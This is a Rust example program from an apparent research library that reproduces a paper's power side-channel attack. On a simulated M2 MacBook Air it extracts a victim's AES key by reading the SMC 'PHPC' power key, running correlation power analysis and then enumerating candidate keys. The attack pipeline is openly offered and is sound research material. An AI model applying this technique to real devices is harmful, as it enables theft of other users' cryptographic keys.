//! Full AES key extraction via the SMC power side channel (§3.4).
//!
//! Plays both sides: installs a user-space victim with a secret key on the
//! simulated M2, then — as the unprivileged attacker — submits random
//! plaintexts to the victim's encryption service, records `PHPC` after
//! every window, and runs Rd0-HW CPA to rank key-byte guesses.
//!
//! Run with: `cargo run --release --example key_extraction -- [traces]`
//! (default 40000; more traces → lower guessing entropy).

use apple_power_sca::core::{Campaign, Device, Rig, VictimKind};
use apple_power_sca::sca::enumerate::{verify_with_pair, KeyEnumerator};
use apple_power_sca::sca::model::Rd0Hw;
use apple_power_sca::sca::rank::{guessing_entropy, recovery_tally};
use apple_power_sca::smc::key::key;
use apple_power_sca::telemetry::ChannelId;

fn main() {
    let traces: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(40_000);
    let secret_key: [u8; 16] = [
        0xB7, 0x6F, 0xEB, 0x3E, 0xD5, 0x9D, 0x77, 0xFA, 0xCE, 0xBB, 0x67, 0xF3, 0x5E, 0xAD, 0xD9,
        0x7C,
    ];
    let shards = std::thread::available_parallelism().map_or(4, |n| n.get().min(8));

    println!("collecting {traces} PHPC traces from the user-space victim (M2, {shards} shards)...");
    let report = Campaign::live(Device::MacbookAirM2, VictimKind::UserSpace, secret_key, 0xFEED)
        .keys(&[key("PHPC")])
        .traces(traces)
        .shards(shards)
        .session()
        .cpa(|| Box::new(Rd0Hw));
    let cpa = report.cpa.cpa(ChannelId::Smc(key("PHPC"))).expect("registered");

    println!("\n#byte  true  best-guess  corr      rank");
    let ranks = cpa.ranks(&secret_key);
    for b in 0..16 {
        let (guess, corr) = cpa.best_guess(b);
        let marker = match ranks[b] {
            1 => "  <- RECOVERED",
            2..=10 => "  <- nearly",
            _ => "",
        };
        println!(
            "{b:>5}  0x{:02X}     0x{guess:02X}    {corr:>7.4}  {:>6}{marker}",
            secret_key[b], ranks[b]
        );
    }
    let (recovered, near) = recovery_tally(&ranks);
    println!(
        "\nguessing entropy: {:.1} bits | {recovered}/16 bytes recovered, {near}/16 nearly",
        guessing_entropy(&ranks)
    );
    println!("(paper, 1M traces on real M2 hardware: 6 recovered + 6 nearly, GE 31.0)");

    // The endgame: even with only partial recovery, enumerate full-key
    // candidates in plausibility order and verify each against one known
    // plaintext/ciphertext pair: one more call to the victim's service.
    let victim = Rig::new(Device::MacbookAirM2, VictimKind::UserSpace, secret_key, 0xFEED).victim;
    let plaintext = [0x42; 16];
    let ciphertext = victim.request_encrypt(plaintext);
    let enumerator = KeyEnumerator::from_cpa(cpa);
    print!("\nenumerating candidates (budget 200000)... ");
    match enumerator.search(200_000, |c| verify_with_pair(c, &plaintext, &ciphertext)) {
        Some((found, tried)) => {
            println!("KEY CONFIRMED after {tried} candidates:");
            let hex: Vec<String> = found.iter().map(|b| format!("{b:02X}")).collect();
            println!("  {}", hex.join(" "));
            assert_eq!(found, secret_key);
        }
        None => println!("not within budget — collect more traces and retry."),
    }
}
